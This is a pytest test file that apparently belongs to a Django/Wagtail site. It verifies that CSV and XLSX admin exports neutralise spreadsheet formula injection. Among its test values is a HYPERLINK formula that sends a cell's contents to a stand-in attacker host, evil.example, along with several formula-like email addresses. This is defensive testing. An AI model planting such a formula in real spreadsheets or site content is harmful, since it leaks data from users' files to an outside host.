"""Admin exports cannot carry a spreadsheet formula (core.spreadsheets).

Each export is a real request by a staff member; the file is read back with Python's csv module,
as a spreadsheet reads it, and every cell that a spreadsheet would run starts with an apostrophe.
"""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from core.spreadsheets import FORMULA_PREFIXES, neutralise_cell, safe_csv
from tests.factories import StandardPageFactory
from tests.hypothesis_profiles import examples
from tests.newsletter_factories import SubscriberFactory

pytestmark = [pytest.mark.django_db, pytest.mark.xdist_group("csv_exports")]

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def streamed(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def runnable(cell):
    return cell.startswith(FORMULA_PREFIXES) and neutralise_cell(cell) != cell


@pytest.fixture
def staff(client):
    client.force_login(get_user_model().objects.create_superuser("staff", "staff@example.org", "a-long-password"))
    return client


def test_subscriber_export_neutralises_addresses_that_look_like_formulas(staff):
    SubscriberFactory(email="=2+5@example.org")
    SubscriberFactory(email="-3+cmd@example.org")
    SubscriberFactory(email="reader@example.org", consent_version="+1")

    rows = streamed(staff.get(reverse("newsletter_subscribers:index") + "?export=csv"))

    cells = [cell for row in rows[1:] for cell in row]
    assert "'=2+5@example.org" in cells
    assert "'-3+cmd@example.org" in cells
    assert "reader@example.org" in cells  # an ordinary cell is untouched
    assert "+1" in cells  # a plain number is no formula
    assert not [cell for cell in cells if runnable(cell)]


def test_site_history_report_neutralises_page_titles(staff):
    StandardPageFactory(title=HOSTILE_TITLE).save_revision(log_action=True)

    rows = streamed(staff.get(reverse("wagtailadmin_reports:site_history") + "?export=csv"))

    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{HOSTILE_TITLE}" in cells
    assert not [cell for cell in cells if runnable(cell)]


def test_xlsx_export_stores_formula_lookalikes_as_text(staff):
    SubscriberFactory(email="=2+5@example.org")

    response = staff.get(reverse("newsletter_subscribers:index") + "?export=xlsx")

    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cell = next(cell for row in sheet.iter_rows() for cell in row if cell.value == "=2+5@example.org")
    assert cell.data_type == "s"


cells = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12)


@given(rows=st.lists(st.lists(cells, min_size=1, max_size=4), max_size=6), cut=st.integers(1, 7))
@settings(max_examples=examples(200))
def test_safe_csv_keeps_every_record_whatever_the_chunks(rows, cut):
    """Cut the file anywhere (inside a character, a quoted line break, a record): the same records
    come out, each cell neutralised, nothing else changed."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    data = buffer.getvalue().encode()
    chunks = [data[start : start + cut] for start in range(0, len(data), cut)]

    out = b"".join(safe_csv(chunks)).decode()

    assert list(csv.reader(io.StringIO(out, newline=""))) == [[neutralise_cell(cell) for cell in row] for row in rows]
